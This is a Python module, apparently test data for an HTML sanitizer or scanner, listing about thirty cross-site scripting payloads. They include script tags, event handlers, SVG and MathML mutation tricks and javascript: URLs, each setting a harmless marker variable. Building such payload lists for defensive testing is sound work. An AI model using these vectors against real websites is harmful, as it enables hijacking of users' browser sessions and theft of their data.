"""What would somebody write who wants a script to run in somebody else's browser?"""

from __future__ import annotations

RUN = "window.__pwned=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"' onmouseover='{RUN}",
    f'" onfocus="{RUN}" autofocus="',
    f"` onload=`{RUN}",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src=javascript:{RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<details open ontoggle={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<style>@import 'javascript:{RUN}'</style>",
    f"<link rel=stylesheet href=javascript:{RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href=javascript:{RUN}//>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"</textarea></title></template></select><img src=x onerror={RUN}>",
    f"{{{{ ''.__class__ }}}}<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<div hx-get=/ hx-trigger=load hx-on::load={RUN} data-enhance=geo>",
    f"javascript:{RUN}",
)
